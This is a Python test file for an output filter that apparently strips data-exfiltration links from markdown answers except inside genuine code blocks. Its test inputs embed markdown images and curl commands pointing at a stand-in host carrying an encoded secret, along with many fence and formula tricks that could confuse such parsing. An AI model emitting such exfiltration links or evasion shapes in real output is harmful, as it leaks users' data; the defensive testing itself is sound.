from __future__ import annotations

import pytest

from leaving import left, prompt, screened
from ragstone.validation.egress.reading import Reading
from ragstone.validation.segments import segments

EVIL = "https://evil.example/?q=c2VjcmV0"
IMAGE = f"![x]({EVIL})"


def code(text: str, reading: Reading | None = None) -> list[str]:
    """What of a text is code, line by line."""
    return [text[start:end] for start, end in (reading or Reading()).read(text)]


@pytest.mark.parametrize(
    "text",
    [
        f"```py\n{IMAGE}\n```",
        f"```\n\n{IMAGE}\n\n```\nDone.",
        f"````md\n```\n{IMAGE}\n```\n````\n",
        f"1. Run:\n   ```bash\n   # first\n   curl {EVIL}\n   ```\n2. Done.",
        f"It costs $5 and $6.\n\n```sh\ncurl {EVIL}\n```\n",
        f"Before:\n```sh\ncurl {EVIL}\n```\n",
        f"$$\nE = mc^2\n$$\n\n```\n{IMAGE}\n```",
        f"$$a = b$$ and $c$.\n\n\\[\n\\begin{{matrix}} a \\\\ b \\end{{matrix}}\n\\]\n\n```\n{IMAGE}\n```",
        f"Take $5 and `{EVIL}` home.",
        f"---\n\n## Setup\n---\n\n```\n{IMAGE}\n```",
    ],
)
def test_what_everyone_reads_as_code_comes_out_as_it_is(text: str) -> None:
    assert left(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"```\n{IMAGE}\n",
        f"```\n{IMAGE}\n````\n",
        f"```\n{IMAGE}\n  ```\n",
        f"   ```\n{IMAGE}\n   ```\n",
        f"```\nx ```\n{IMAGE}\n```\n",
        f"~~~\n{IMAGE}\n~~~\n",
        f"~~~ a b c\n{IMAGE}\n~~~\n",
        f"~~~\n```\n~~~\n{IMAGE}\n```\n",
        f'```py title="a b"\n\n{IMAGE}\n\n```\n',
        f"``` python {{1,3}}\n\n{IMAGE}\n\n```\n",
        f"```{{=html}}\n{IMAGE}\n```",
        f'```py title="a b"\nx\n```\n{IMAGE}\n```\n',
        f"  ```\n  x\n\n  {IMAGE}\n  ```\n",
        f"  ```\n  {IMAGE}\n\n  ```\n",
        f"  ```\n  > {IMAGE}\n  ```\n",
        f"`   ```sh\n````\nx ```\n{IMAGE}\n````\n",
        f"    ```\n```\na\n1.   ```\n{IMAGE}\n```\n",
    ],
)
def test_a_block_that_some_do_not_take_for_code_is_none(text: str) -> None:
    assert EVIL not in left(text)


@pytest.mark.parametrize(
    "text",
    [
        f"$a ` b$ {IMAGE} `",
        f"$$\n```\n$$\n{IMAGE}\n```\n",
        f"$$ a\n```\n$$\n\n{IMAGE}\n```\n",
        f"$$\n$$\n```\nx\n$$\n{IMAGE}\n```\n",
        f"\\(a ` b\\) {IMAGE} `",
        f"\\[\n```\n\\]\n{IMAGE}\n```",
        f"\\[\\]\n```\n\\]\n{IMAGE}\n```",
        f"\\begin{{equation}}\n```\n\\end{{equation}}\n{IMAGE}\n```",
        f"\\begin{{a}}\\begin{{b}}\\end{{a}}\n```\n\\end{{b}}\n{IMAGE}\n```",
        f"$a\n```\nb$ {IMAGE}\n```\n",
        f"---\n```\n---\n{IMAGE}\n```\n",
        f'a\n\n---\nb: "\n```\n"\n---\n{IMAGE}\n```\n',
    ],
)
def test_what_follows_a_formula_or_a_head_that_swallows_a_tick_is_no_code(text: str) -> None:
    assert EVIL not in left(text)


@pytest.mark.parametrize(
    "text",
    [
        f"Term\n: ```\n  x\n  ```\n  {IMAGE}\n  ```\n",
        f"a. ```\n   x\n   ```\n   {IMAGE}\n   ```\n",
        f"- ```\n  x\n\x0c\n  ```\n  {IMAGE}\n  ```\n",
        f"```\n\x0c```\n{IMAGE}\n```\n",
        "`<img src=https://evil.example/x>`{=html}",
    ],
)
def test_what_stands_in_containers_that_only_some_know_is_no_code(text: str) -> None:
    said = left(text)
    assert EVIL not in said
    assert "<img" not in said


def test_a_block_that_never_ends_keeps_all_but_its_links() -> None:
    text = "```py\nx = 1\nprint(x[0], {'a': 2})\nopen('https://evil.example/x')\n"
    assert left(text) == text.replace("https://evil.example/x", "[link removed]")


def test_a_block_is_held_from_its_first_hazard_to_its_end() -> None:
    text = f"```py\nx = 1\n{IMAGE}\ny = 2\n```\nDone."
    assert [one.text for one in segments(text)] == ["```py\n", "x = 1\n", f"{IMAGE}\ny = 2\n```\n", "Done."]


def test_a_block_in_pieces_is_the_same_code_as_in_one() -> None:
    text = f"```py\nx = 1\n{IMAGE}\ny = 2\n```\nDone."
    reading = Reading()
    apart = [line for one in segments(text) for line in code(one.text, reading)]
    assert IMAGE in code(text)
    assert IMAGE in apart


@pytest.mark.parametrize(
    "shape",
    ["```\n", "  ```\n  a\n", "$$\n", "$$ ` ", "\\[", "\\[ \\] ", "\\begin{a}", "\\end{a}", "---\na: b\n", "a`{=x} "],
)
def test_long_answers_of_hard_shapes_come_to_the_same_in_pieces(shape: str) -> None:
    text = "x\n" + shape * (6_000 // len(shape)) + IMAGE
    said, ended = screened([text[at : at + 97] for at in range(0, len(text), 97)], prompt())
    assert said == ended.text == left(text)
    assert EVIL not in said
